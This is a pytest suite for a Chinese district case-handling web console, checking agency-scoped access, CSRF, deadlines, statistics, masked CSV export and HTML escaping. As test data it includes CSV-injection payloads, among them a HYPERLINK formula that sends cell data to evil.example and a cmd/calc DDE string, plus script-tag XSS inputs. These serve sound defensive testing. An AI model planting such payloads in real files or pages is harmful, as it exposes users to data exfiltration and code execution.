"""Blind round: the district office (领导小组办公室) and agency liaisons at the web console.

Written as a clerk on a desktop browser and as liaisons of 税务/人社/医保/法院/司法/信访:
sign-in with wrong, expired or another agency's token; overdue cases by agency and severity
on working-day deadlines; statistics for a month, quarter or custom range that add up, a
transferred case counted once; the CSV export (masked, BOM, no formulas); the 报送单 fields
of seed 002 on the case page; each agency sees only its own cases; viewing is logged; payer
text escaped on every page; CSRF; pages past the end; searching by phone number.
"""
from __future__ import annotations

import dataclasses
import logging
import re
from datetime import date, datetime, timedelta, timezone

import pytest

import tests.test_console as console_tests
from bot.console.session import COOKIE, SessionCodec
from bot.store.models import Case, utcnow
from routing.deadlines import deadline_for, is_overdue
from tests.test_cases import ID_NUMBER, PHONE, T0, events, new_case
from tests.test_console import TOKENS, csrf_of, figure, read_csv, stored

# Fixtures shared with test_console.py (assigned so linters see them used).
anon, rules, signed_in = console_tests.anon, console_tests.rules, console_tests.signed_in

BJ = timezone(timedelta(hours=8))
ROW = re.compile(r'<tr class="[^"]*" data-case="([^"]+)".*?</tr>', re.DOTALL)


def rows_of(page: str) -> list[str]:
    return ROW.findall(page)


def row_html(page: str) -> str:
    return "".join(m.group(0) for m in ROW.finditer(page))


async def get(client, path: str) -> tuple[int, str]:
    async with client.get(path, allow_redirects=False) as resp:
        return resp.status, await resp.text()


async def make_overdue(sm, case: Case, hours: int = 5) -> None:
    async with sm() as session:
        row = await session.get(Case, case.id)
        row.deadline = utcnow() - timedelta(hours=hours)
        await session.commit()


async def login_with(client, token: str, **extra) -> tuple[int, str, dict]:
    csrf = await csrf_of(client, "/console/login")
    async with client.post("/console/login", data={"token": token, "csrf": csrf, **extra},
                           allow_redirects=False) as resp:
        return resp.status, await resp.text(), dict(resp.headers)


# --- sign-in ----------------------------------------------------------------------------


@pytest.mark.parametrize("token", [
    "dev-token-taxx", "dev-token-", "DEV-TOKEN-TAX", "dev-token", "x" * 5000, "令牌",
    "dev-token-tax\x00",
])
async def test_wrong_tokens_are_a_401_page_that_does_not_echo_them(anon, token):
    status, page, _ = await login_with(anon, token)
    assert status == 401 and "令牌不正确" in page
    if len(token) > 6:
        assert token.strip("\x00") not in page
    assert (await get(anon, "/console/cases"))[0] == 303


@pytest.mark.parametrize("token", [" dev-token-tax", "dev-token-tax\n", "\tdev-token-tax  "])
async def test_token_pasted_with_spaces_or_a_line_break_signs_in(anon, token):
    status, _, _ = await login_with(anon, token)
    assert status == 303
    status, page = await get(anon, "/console/cases")
    assert status == 200 and "区税务局" in page


@pytest.mark.parametrize(("who", "name", "not_name"), [
    ("hrss", "区人力资源和社会保障局", "区税务局"),
    ("court", "区人民法院", "区税务局"),
    ("leadership", "征缴争议处理领导小组办公室", "区人民法院"),
])
async def test_each_token_signs_in_as_its_own_agency(anon, who, name, not_name):
    status, _, _ = await login_with(anon, TOKENS[who])
    assert status == 303
    status, page = await get(anon, "/console/cases")
    assert status == 200 and name in page


async def test_token_in_the_query_string_does_not_sign_in(anon):
    status, _ = await get(anon, "/console/login?token=dev-token-tax")
    assert status == 200
    assert (await get(anon, "/console/cases"))[0] == 303


async def test_expired_session_goes_back_to_sign_in(anon, server):
    codec = SessionCodec(server.app["config"])
    old = codec.new("tax", now=1_000_000)
    anon.session.cookie_jar.update_cookies({COOKIE: codec.dump(old)},
                                           server.make_url("/console/"))
    status, _ = await get(anon, "/console/cases")
    assert status == 303


async def test_session_of_another_deployment_is_ignored(anon, server):
    other = SessionCodec(dataclasses.replace(server.app["config"], token="other-token"))
    anon.session.cookie_jar.update_cookies({COOKIE: other.dump(other.new("leadership_office"))},
                                           server.make_url("/console/"))
    assert (await get(anon, "/console/cases"))[0] == 303


async def test_login_field_is_a_password_field(anon):
    _, page = await get(anon, "/console/login")
    assert re.search(r'<input[^>]*type="password"[^>]*name="token"|'
                     r'<input[^>]*name="token"[^>]*type="password"', page)


# --- CSRF -------------------------------------------------------------------------------


async def test_login_with_another_browsers_csrf_is_refused(aiohttp_client, server, anon):
    other = await aiohttp_client(server)
    foreign = await csrf_of(other, "/console/login")
    async with anon.post("/console/login", data={"token": TOKENS["tax"], "csrf": foreign},
                         allow_redirects=False) as resp:
        assert resp.status == 403
    assert (await get(anon, "/console/cases"))[0] == 303


async def test_csrf_from_before_sign_in_or_an_old_session_is_refused(server, rules, sm, anon):
    case = await new_case(server, rules)
    before = await csrf_of(anon, "/console/login")
    status, _, _ = await login_with(anon, TOKENS["tax"])
    assert status == 303
    first = await csrf_of(anon)
    url = f"/console/cases/{case.case_no}/note"
    async with anon.post(url, data={"csrf": before, "text": "x"}) as resp:
        assert resp.status == 403
    async with anon.post("/console/logout", data={"csrf": first}, allow_redirects=False):
        pass
    await login_with(anon, TOKENS["tax"])
    async with anon.post(url, data={"csrf": first, "text": "x"}) as resp:
        assert resp.status == 403
    assert [e.kind for e in await events(sm, case)] == ["registered", "assigned"]


@pytest.mark.parametrize("path", ["/console/logout", "/console/cases/{no}/resolve?result=x",
                                  "/console/cases/{no}/accept",
                                  "/console/cases/{no}/transfer?agency=hrss&reason=x"])
async def test_get_never_changes_anything(server, rules, sm, signed_in, path):
    case = await new_case(server, rules)
    tax, csrf = await signed_in("tax")
    async with tax.get(path.format(no=case.case_no) + f"&csrf={csrf}"
                       if "?" in path else path.format(no=case.case_no),
                       allow_redirects=False) as resp:
        assert resp.status in (404, 405)
    assert (await get(tax, "/console/cases"))[0] == 200  # still signed in
    assert (await stored(sm, case)).status == "assigned"
    assert [e.kind for e in await events(sm, case)][:2] == ["registered", "assigned"]
    assert not [e for e in await events(sm, case) if e.kind in
                ("accepted", "resolved", "transferred")]


# --- who sees what --------------------------------------------------------------------------


async def test_liaison_list_shows_only_their_agencys_cases(server, rules, aiohttp_client):
    late_fee = await new_case(server, rules, openid="o-a")  # tax alone
    base = await new_case(server, rules, openid="o-b", category="contribution_base")
    medical = await new_case(server, rules, openid="o-c", category="assessed_amount",
                             description="医保费核定的应缴费额不对")
    seen = {}
    for who, token in (("tax", "dev-token-tax"), ("hrss", "dev-token-hrss"),
                       ("court", "dev-token-court"), ("petitions", "dev-token-petitions"),
                       ("healthcare", "dev-token-healthcare"),
                       ("leadership", "dev-token-leadership")):
        client = await aiohttp_client(server)
        status, _, _ = await login_with(client, token)
        assert status == 303
        _, page = await get(client, "/console/cases")
        seen[who] = set(rows_of(page))
    assert seen["tax"] >= {late_fee.case_no, base.case_no}
    assert late_fee.case_no not in seen["hrss"] and base.case_no in seen["hrss"]
    assert seen["court"] == set() and seen["petitions"] == set()
    assert late_fee.case_no not in seen["healthcare"]
    assert seen["leadership"] == {late_fee.case_no, base.case_no, medical.case_no}


@pytest.mark.parametrize("path", [
    "/console/cases?q={no}", "/console/cases?q={tail}", "/console/cases/{no}",
    "/console/export.csv?from=2026-11-01", "/console/stats",
])
async def test_another_agencys_case_does_not_leak_through_any_page(server, rules, signed_in,
                                                                    path):
    case = await new_case(server, rules, now=T0, employer="保密制衣厂")
    hrss, _ = await signed_in("hrss")
    status, page = await get(hrss, path.format(no=case.case_no, tail=case.case_no[-4:]))
    assert status in (200, 404)
    assert case.case_no not in rows_of(page) and "保密制衣厂" not in page
    assert "138****5678" not in page and "滞纳金太多" not in page
    if "export.csv" in path:
        assert case.case_no not in page
    if path.startswith("/console/stats"):
        assert figure(page, "total") == "0"


async def test_liaison_cannot_widen_stats_or_export_with_an_agency_parameter(server, rules,
                                                                            signed_in):
    case = await new_case(server, rules, now=T0)
    hrss, _ = await signed_in("hrss")
    for path in ("/console/stats?agency=tax", "/console/stats?lead=tax",
                 "/console/cases?lead=tax", "/console/export.csv?from=2026-11-01&agency=tax"):
        status, page = await get(hrss, path)
        assert status == 200 and case.case_no not in page, path
        if path.startswith("/console/stats"):
            assert figure(page, "total") == "0"


async def test_office_can_narrow_stats_to_one_agency(server, rules, signed_in):
    await new_case(server, rules, openid="o-1", now=T0)  # tax leads
    await new_case(server, rules, openid="o-2", now=T0, category="contribution_base")  # hrss
    await new_case(server, rules, openid="o-3", now=T0, category="contribution_base")
    boss, _ = await signed_in("leadership")
    _, page = await get(boss, "/console/stats?from=2026-11-01&to=2026-11-30")
    assert figure(page, "total") == "3"
    _, page = await get(boss, "/console/stats?from=2026-11-01&to=2026-11-30&lead=hrss")
    assert figure(page, "total") == "2"


# --- deadlines on working days ----------------------------------------------------------------


def bj(*args) -> datetime:
    return datetime(*args, tzinfo=BJ)


@pytest.mark.parametrize(("severity", "opened", "due"), [
    ("general", bj(2026, 11, 20, 16, 0), bj(2026, 11, 27, 16, 0)),  # Fri → next Fri
    ("simple", bj(2026, 11, 27, 17, 30), bj(2026, 11, 30, 17, 30)),  # Fri → Mon
    ("simple", bj(2026, 11, 28, 9, 0), bj(2026, 12, 1, 0, 0)),  # Sat → end of Mon
    ("major", bj(2026, 11, 23, 10, 0), bj(2026, 12, 14, 10, 0)),  # 15 working days
    ("general", bj(2026, 11, 29, 23, 59), bj(2026, 12, 5, 0, 0)),  # Sun night → end of Fri
])
def test_deadlines_count_working_days_without_holidays(severity, opened, due):
    assert deadline_for(severity, opened, {"deadlines": {"simple": 1, "general": 5,
                                                         "major": 15}}) == due


HOLIDAYS = {"deadlines": {"simple": 1, "general": 5, "major": 15},
            "calendar": {"holidays": [date(2026, 10, d) for d in range(1, 9)],
                         "workdays": [date(2026, 9, 27), date(2026, 10, 10)]}}
HOLIDAYS_AS_TEXT = {**HOLIDAYS, "calendar": {
    "holidays": [f"2026-10-0{d}" for d in range(1, 9)],
    "workdays": ["2026-09-27", "2026-10-10"]}}


@pytest.mark.parametrize("config_raw", [HOLIDAYS, HOLIDAYS_AS_TEXT])
@pytest.mark.parametrize(("severity", "opened", "due"), [
    # Tue 29 Sep 10:00: 30 Sep, 9 Oct, 10 Oct (Sat, make-up), 12, 13 Oct.
    ("general", bj(2026, 9, 29, 10, 0), bj(2026, 10, 13, 10, 0)),
    # Sat 3 Oct (holiday): counting starts 9 Oct 00:00 → end of 9 Oct.
    ("simple", bj(2026, 10, 3, 11, 0), bj(2026, 10, 10, 0, 0)),
    # Sun 27 Sep is a make-up working day: counts as received that day.
    ("simple", bj(2026, 9, 27, 9, 0), bj(2026, 9, 28, 9, 0)),
])
def test_deadlines_skip_configured_holidays_and_count_make_up_days(config_raw, severity,
                                                                   opened, due):
    assert deadline_for(severity, opened, config_raw) == due


def test_overdue_is_on_the_deadline_not_calendar_days():
    opened = bj(2026, 11, 20, 16, 0)  # Friday
    due = deadline_for("general", opened, {})
    assert not is_overdue(due, opened + timedelta(days=6))  # five calendar days would be late
    assert is_overdue(due, opened + timedelta(days=7))


async def test_case_page_shows_the_deadline_in_beijing_time(server, rules, signed_in):
    case = await new_case(server, rules, now=T0)  # Monday 10:00 Beijing, general
    tax, _ = await signed_in("tax")
    _, page = await get(tax, f"/console/cases/{case.case_no}")
    assert "2026-11-30 10:00" in page
    assert "2026-11-30 02:00" not in page


# --- the overdue list by agency and severity --------------------------------------------------


async def overdue_set(server, rules, sm):
    tax_late = await new_case(server, rules, openid="o-t")
    hrss_late = await new_case(server, rules, openid="o-h", category="contribution_base")
    hrss_major = await new_case(server, rules, openid="o-m", category="contribution_base",
                                severity="major", severity_reasons=["protest"])
    in_time = await new_case(server, rules, openid="o-i")
    for case in (tax_late, hrss_late, hrss_major):
        await make_overdue(sm, case)
    return tax_late, hrss_late, hrss_major, in_time


@pytest.mark.parametrize(("query", "expected"), [
    ("overdue=1", {0, 1, 2}),
    ("overdue=1&lead=hrss", {1, 2}),
    ("overdue=1&lead=tax", {0}),
    ("overdue=1&severity=major", {2}),
    ("overdue=1&lead=hrss&severity=general", {1}),
    ("overdue=0", {3}),
])
async def test_office_lists_overdue_cases_by_agency_and_severity(server, rules, sm, signed_in,
                                                                 query, expected):
    made = await overdue_set(server, rules, sm)
    boss, _ = await signed_in("leadership")
    status, page = await get(boss, "/console/cases?" + query)
    assert status == 200
    assert set(rows_of(page)) == {made[i].case_no for i in expected}


async def test_case_due_in_an_hour_or_resolved_in_time_is_not_overdue(server, rules, sm,
                                                                       signed_in):
    soon = await new_case(server, rules, openid="o-soon")
    done = await new_case(server, rules, openid="o-done")
    async with sm() as session:
        row = await session.get(Case, soon.id)
        row.deadline = utcnow() + timedelta(hours=1)
        row = await session.get(Case, done.id)
        row.deadline = utcnow() - timedelta(days=1)
        row.status, row.resolved_at = "resolved", utcnow() - timedelta(days=2)
        await session.commit()
    boss, _ = await signed_in("leadership")
    _, page = await get(boss, "/console/cases?overdue=1")
    assert rows_of(page) == []


async def test_overdue_case_page_says_so(server, rules, sm, signed_in):
    case = await new_case(server, rules)
    await make_overdue(sm, case)
    tax, _ = await signed_in("tax")
    _, page = await get(tax, f"/console/cases/{case.case_no}")
    assert "逾期" in page


async def test_stats_overdue_breakdown_names_agencies_and_severities_in_chinese(server, rules,
                                                                                sm, signed_in):
    await overdue_set(server, rules, sm)
    boss, _ = await signed_in("leadership")
    _, page = await get(boss, "/console/stats")
    assert "区人力资源和社会保障局" in page and "区税务局" in page
    assert "重大疑难事项" in page and "一般事项" in page
    assert not re.search(r">\s*(hrss|tax|major|general|contribution_base)\s*<", page)


# --- statistics: periods, ranges, sums ---------------------------------------------------------


async def test_stats_by_quarter(server, rules, signed_in):
    await new_case(server, rules, openid="o-q1", now=T0)
    await new_case(server, rules, openid="o-q2", now=datetime(2026, 9, 30, 3, tzinfo=timezone.utc))
    boss, _ = await signed_in("leadership")
    status, page = await get(boss, "/console/stats?by=quarter&from=2026-07-01&to=2026-12-31")
    assert status == 200
    assert "2026-Q3" in page and "2026-Q4" in page
    assert figure(page, "total") == "2"


@pytest.mark.parametrize(("query", "total"), [
    ("from=2026-11-01&to=2026-11-30", 2),  # 30 Nov 23:30 Beijing is still November
    ("from=2026-12-01&to=2026-12-31", 1),
    ("from=2026-11-30&to=2026-11-30", 1),
    ("from=2026-12-01", 1),
    ("to=2026-11-29", 1),
    ("by=month&from=2026-11-01&to=2026-12-31", 3),
])
async def test_stats_custom_ranges_follow_beijing_dates(server, rules, signed_in, query, total):
    await new_case(server, rules, openid="o-r1", now=T0)
    await new_case(server, rules, openid="o-r2",
                   now=datetime(2026, 11, 30, 15, 30, tzinfo=timezone.utc))  # 23:30 Beijing
    await new_case(server, rules, openid="o-r3",
                   now=datetime(2026, 11, 30, 16, 30, tzinfo=timezone.utc))  # 1 Dec 00:30
    boss, _ = await signed_in("leadership")
    status, page = await get(boss, "/console/stats?" + query)
    assert status == 200
    assert figure(page, "total") == str(total)


@pytest.mark.parametrize("query", ["from=2026-11-30&to=2026-11-01", "from=2026-02-30",
                                   "to=tomorrow", "from=<script>alert(1)</script>"])
async def test_stats_bad_range_is_a_friendly_400(server, signed_in, query):
    boss, _ = await signed_in("leadership")
    status, page = await get(boss, "/console/stats?" + query)
    assert status == 400 and "<script>alert" not in page
    assert "日期" in page


async def test_stats_form_uses_date_inputs(signed_in):
    boss, _ = await signed_in("leadership")
    _, page = await get(boss, "/console/stats")
    assert 'type="date"' in page


async def test_stats_breakdowns_add_up_to_the_total(server, rules, sm, signed_in):
    await overdue_set(server, rules, sm)
    await new_case(server, rules, openid="o-x", category="refund")
    await new_case(server, rules, openid="o-y", category="late_fee", jurisdiction="广州天河区")
    boss, _ = await signed_in("leadership")
    _, page = await get(boss, "/console/stats")
    total = int(figure(page, "total"))
    assert total == 6
    tables = re.findall(r'data-breakdown="([^"]+)"(.*?)</table>', page, re.DOTALL)
    assert tables, "no breakdown tables marked data-breakdown"
    for name, table in tables:
        body = table.split("<tbody>", 1)[1]
        counts = [int(n) for n in re.findall(r"<td>(\d+)</td>", body)]
        assert sum(counts) == total, name


async def test_transferred_case_is_counted_once(server, rules, sm, signed_in):
    moved = await new_case(server, rules, openid="o-mv", now=T0)
    await new_case(server, rules, openid="o-st", now=T0)
    tax, csrf = await signed_in("tax")
    async with tax.post(f"/console/cases/{moved.case_no}/transfer",
                        data={"csrf": csrf, "agency": "hrss", "reason": "应由人社局牵头"},
                        allow_redirects=False) as resp:
        assert resp.status == 303
    hrss, csrf2 = await signed_in("hrss")
    async with hrss.post(f"/console/cases/{moved.case_no}/transfer",
                         data={"csrf": csrf2, "agency": "healthcare", "reason": "医保费争议"},
                         allow_redirects=False) as resp:
        assert resp.status == 303
    boss, _ = await signed_in("leadership")
    _, page = await get(boss, "/console/stats?from=2026-11-01&to=2026-11-30")
    assert figure(page, "total") == "2"
    async with boss.get("/console/export.csv?from=2026-11-01&to=2026-11-30") as resp:
        _, *lines = await read_csv(resp)
    assert sorted(r[0] for r in lines) == sorted({r[0] for r in lines}) and len(lines) == 2
    for who in ("tax", "hrss"):
        client, _ = await signed_in(who)
        _, page = await get(client, "/console/stats?from=2026-11-01&to=2026-11-30")
        assert figure(page, "total") == ("2" if who == "tax" else "1")
        _, page = await get(client, "/console/cases")
        assert rows_of(page).count(moved.case_no) == 1


# --- export -----------------------------------------------------------------------------


ATTACKS = {
    "employer": '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
    "desired_outcome": "@SUM(1+1)*cmd|' /C calc'!A0",
    "jurisdiction": "+1+2镇",
    "period": "-2+3",
    "description": "\t=1+1 滞纳金不合理",
    "name": "=张三",
}


@pytest.mark.parametrize("field", sorted(ATTACKS))
async def test_export_neutralises_formulas_in_payer_fields(server, rules, signed_in, field):
    await new_case(server, rules, now=T0, **{field: ATTACKS[field]})
    for who, extra in (("tax", ""), ("leadership", "&full=1")):
        client, _ = await signed_in(who)
        async with client.get("/console/export.csv?from=2026-11-23&to=2026-11-23" + extra) as r:
            _, *lines = await read_csv(r)
        for cell in lines[0]:
            assert not cell or cell[0] not in "=+-@\t\r", (who, field, cell)


async def test_export_is_excel_safe_chinese_and_masks_numbers_in_any_shape(server, rules,
                                                                          signed_in):
    await new_case(server, rules, now=T0,
                   description="电话 138 1234 5678，身份证44018319900101123X，多行\n第二行",
                   id_number="44018319900101123X", employer="增城某某五金厂")
    tax, _ = await signed_in("tax")
    async with tax.get("/console/export.csv?from=2026-11-23&to=2026-11-23") as resp:
        assert "charset=utf-8" in resp.headers["Content-Type"].lower()
        assert ".csv" in resp.headers["Content-Disposition"]
        header, *lines = await read_csv(resp)
    assert len(lines) == 1 and len(lines[0]) == len(header)
    flat = str(lines)
    assert "增城某某五金厂" in flat and "第二行" in flat
    assert "138 1234 5678" not in flat and "44018319900101123X" not in flat
    assert "12345678" not in flat.replace(" ", "")


async def test_export_page_and_range_errors(server, signed_in):
    tax, _ = await signed_in("tax")
    status, page = await get(tax, "/console/export")
    assert status == 200 and 'type="date"' in page
    status, page = await get(tax, "/console/export.csv?from=2026-11-30&to=2026-11-01")
    assert status == 400 and "日期" in page


# --- the 报送单 on the case page ---------------------------------------------------------------


FORM_LABELS = ("报送编号", "联系人", "电话", "反映内容摘要", "受理人", "受理时间", "报送意见",
               "承办", "办理时限")


async def test_case_page_has_every_field_of_the_report_form(server, rules, signed_in):
    case = await new_case(server, rules, now=T0)
    tax, _ = await signed_in("tax")
    _, page = await get(tax, f"/console/cases/{case.case_no}")
    missing = [label for label in FORM_LABELS if label not in page]
    assert not missing
    assert case.case_no in page and "138****5678" in page


async def test_accept_form_fills_the_report_form(server, rules, signed_in, sm):
    case = await new_case(server, rules, now=T0)
    tax, csrf = await signed_in("tax")
    _, page = await get(tax, f"/console/cases/{case.case_no}")
    for field in ("acceptor", "acceptor_phone", "opinion"):
        assert f'name="{field}"' in page, field
    async with tax.post(f"/console/cases/{case.case_no}/accept",
                        data={"csrf": csrf, "acceptor": "李四", "acceptor_phone": "020-12366",
                              "opinion": "<b>建议</b>减免滞纳金"}) as resp:
        assert resp.status == 200
        page = await resp.text()
    assert "李四" in page and "020-12366" in page
    assert "&lt;b&gt;建议&lt;/b&gt;减免滞纳金" in page and "<b>建议" not in page
    kinds = [e.kind for e in await events(sm, case)]
    assert "accepted" in kinds


# --- viewing is logged ------------------------------------------------------------------------


@pytest.mark.parametrize(("who", "actor"), [("tax", "tax"), ("leadership", "leadership_office")])
async def test_viewing_a_case_is_logged(server, rules, sm, signed_in, caplog, who, actor):
    case = await new_case(server, rules)
    client, _ = await signed_in(who)
    caplog.set_level(logging.INFO)
    status, _ = await get(client, f"/console/cases/{case.case_no}")
    assert status == 200
    viewed = [r for r in caplog.records if case.case_no in r.getMessage()
              and getattr(r, "agency", None) == actor]
    assert viewed and "case_viewed" in viewed[0].getMessage()
    assert PHONE not in caplog.text and "张三" not in caplog.text
    assert (await stored(sm, case)).first_action_at is None


async def test_a_refused_view_is_not_logged_on_the_case(server, rules, sm, signed_in):
    case = await new_case(server, rules)
    court, _ = await signed_in("court")
    assert (await get(court, f"/console/cases/{case.case_no}"))[0] == 404
    assert [e.kind for e in await events(sm, case)] == ["registered", "assigned"]


async def test_revealing_contact_never_writes_it_to_the_logs(server, rules, signed_in, caplog):
    case = await new_case(server, rules)
    tax, csrf = await signed_in("tax")
    caplog.set_level(logging.INFO)
    async with tax.post(f"/console/cases/{case.case_no}/contact", data={"csrf": csrf}) as resp:
        assert PHONE in await resp.text()
    assert PHONE not in caplog.text and ID_NUMBER not in caplog.text


# --- escaping on every page ---------------------------------------------------------------


XSS = '<script>alert(1)</script>'


async def test_payer_text_is_escaped_on_list_stats_and_case_pages(server, rules, signed_in, sm):
    case = await new_case(server, rules, now=T0, employer=XSS, jurisdiction=XSS + "镇",
                          period=XSS, name=XSS, description=XSS, desired_outcome=XSS)
    boss, csrf = await signed_in("leadership")
    for path in ("/console/cases", f"/console/cases?q={case.case_no}", "/console/stats",
                 "/console/stats?from=2026-11-01", f"/console/cases/{case.case_no}",
                 "/console/export"):
        status, page = await get(boss, path)
        assert status == 200, path
        assert "<script>alert" not in page, path
    async with boss.post(f"/console/cases/{case.case_no}/contact", data={"csrf": csrf}) as resp:
        assert "<script>alert" not in await resp.text()


async def test_liaison_texts_are_escaped_in_the_timeline(server, rules, signed_in):
    case = await new_case(server, rules)
    tax, csrf = await signed_in("tax")
    base = f"/console/cases/{case.case_no}"
    async with tax.post(base + "/note", data={"csrf": csrf, "text": XSS}) as resp:
        assert "<script>alert" not in await resp.text()
    async with tax.post(base + "/transfer", data={"csrf": csrf, "agency": "hrss",
                                                  "reason": XSS + "应由人社"}) as resp:
        assert "<script>alert" not in await resp.text()
    hrss, _ = await signed_in("hrss")
    _, page = await get(hrss, base)
    assert "<script>alert" not in page and "&lt;script&gt;" in page


@pytest.mark.parametrize("path", [
    "/console/cases?q=" + XSS, "/console/cases?jurisdiction=" + XSS,
    "/console/cases?status=" + XSS + "&sort=" + XSS, "/console/cases/" + XSS,
    "/console/cases?page=" + XSS, "/console/stats?by=" + XSS,
])
async def test_reflected_parameters_are_escaped(signed_in, path):
    tax, _ = await signed_in("tax")
    status, page = await get(tax, path)
    assert status in (200, 400, 404)
    assert "<script>alert" not in page


async def test_next_parameter_on_the_sign_in_page_is_escaped(anon):
    status, page = await get(anon, '/console/login?next="><script>alert(1)</script>')
    assert status == 200 and "<script>alert" not in page


# --- pages past the end ------------------------------------------------------------------


@pytest.mark.parametrize("page_no", ["999", "0", "-3", "1" + "0" * 30, "2.5", "%EF%BC%92"])
async def test_odd_page_numbers_are_never_an_error(server, rules, signed_in, page_no):
    made = [await new_case(server, rules, openid=f"o-p{i}") for i in range(3)]
    tax, _ = await signed_in("tax")
    status, page = await get(tax, "/console/cases?page=" + page_no)
    assert status == 200
    shown = rows_of(page)
    assert shown == [] and "没有" in page or set(shown) == {c.case_no for c in made}


async def test_page_past_the_end_offers_a_way_back(server, rules, signed_in):
    await new_case(server, rules)
    tax, _ = await signed_in("tax")
    _, page = await get(tax, "/console/cases?page=50")
    assert 'href="/console/cases' in page
    assert "第 50 页 / 共 1 页" not in page


async def test_page_links_keep_the_filters(server, rules, signed_in):
    for i in range(22):
        await new_case(server, rules, openid=f"o-f{i}")
    await new_case(server, rules, openid="o-other", category="refund")
    tax, _ = await signed_in("tax")
    _, page = await get(tax, "/console/cases?category=late_fee")
    links = re.findall(r'href="([^"]*page=2[^"]*)"', page)
    assert links and all("category=late_fee" in link for link in links)
    _, page = await get(tax, "/console/cases?category=late_fee&page=2")
    assert len(rows_of(page)) == 2


# --- searching by phone ------------------------------------------------------------------


@pytest.mark.parametrize("query", [PHONE, "138 1234 5678", "138-1234-5678", "+8613812345678",
                                   ID_NUMBER])
async def test_search_by_phone_or_id_finds_the_case_without_showing_it(server, rules,
                                                                       signed_in, query):
    case = await new_case(server, rules, openid="o-ph")
    other = await new_case(server, rules, openid="o-other", phone="13900001111",
                           id_number="440183198001011111", description="滞纳金太多")
    tax, _ = await signed_in("tax")
    async with tax.get("/console/cases", params={"q": query}) as resp:
        page = await resp.text()
    assert rows_of(page) == [case.case_no]
    assert PHONE not in row_html(page) and ID_NUMBER not in row_html(page)
    assert other.case_no not in page


async def test_search_by_phone_does_not_cross_agencies(server, rules, signed_in):
    await new_case(server, rules)  # tax only
    hrss, _ = await signed_in("hrss")
    async with hrss.get("/console/cases", params={"q": PHONE}) as resp:
        assert rows_of(await resp.text()) == []


async def test_search_by_phone_is_not_logged(server, rules, signed_in, caplog):
    await new_case(server, rules)
    tax, _ = await signed_in("tax")
    caplog.set_level(logging.INFO)
    async with tax.get("/console/cases", params={"q": PHONE}) as resp:
        assert resp.status == 200
    assert PHONE not in caplog.text


# --- second batch (written after reading export.py): numbers in other payer fields, the
# 报送单 in the archive file, the overdue figure against the overdue list ---------------------


OTHER_PHONE = "13900001111"


@pytest.mark.parametrize("field", ["employer", "jurisdiction", "period", "name"])
async def test_numbers_typed_into_any_payer_field_are_masked(server, rules, signed_in, field):
    value = {"employer": f"老板电话{OTHER_PHONE}的五金厂",
             "jurisdiction": f"新塘镇 联系{OTHER_PHONE}",
             "period": f"2025年1月 电话{OTHER_PHONE}",
             "name": f"张三{OTHER_PHONE}"}[field]
    case = await new_case(server, rules, now=T0, **{field: value})
    tax, _ = await signed_in("tax")
    async with tax.get("/console/export.csv?from=2026-11-23&to=2026-11-23") as resp:
        _, *lines = await read_csv(resp)
    assert OTHER_PHONE not in str(lines)
    for path in ("/console/cases", f"/console/cases/{case.case_no}"):
        _, page = await get(tax, path)
        assert OTHER_PHONE not in page, path


async def test_export_carries_the_report_form_for_the_archive(server, rules, signed_in):
    case = await new_case(server, rules, now=T0)
    tax, csrf = await signed_in("tax")
    async with tax.post(f"/console/cases/{case.case_no}/accept",
                        data={"csrf": csrf, "acceptor": "李四", "acceptor_phone": "020-12366",
                              "opinion": "建议减免"}, allow_redirects=False) as resp:
        assert resp.status == 303
    async with tax.get("/console/export.csv?from=2026-11-23&to=2026-11-23") as resp:
        header, *lines = await read_csv(resp)
    by_name = dict(zip(header, lines[0]))
    assert by_name["受理人"] == "李四"
    assert by_name.get("受理人电话") == "020-12366"
    assert by_name.get("报送意见") == "建议减免"
    assert by_name.get("受理时间", "").startswith("20")


@pytest.mark.parametrize("who", ["leadership", "hrss", "tax"])
async def test_stats_overdue_figure_matches_the_overdue_list(server, rules, sm, signed_in, who):
    await overdue_set(server, rules, sm)
    client, _ = await signed_in(who)
    _, page = await get(client, "/console/stats")
    _, listed = await get(client, "/console/cases?overdue=1")
    assert figure(page, "open-late") == str(len(rows_of(listed)))
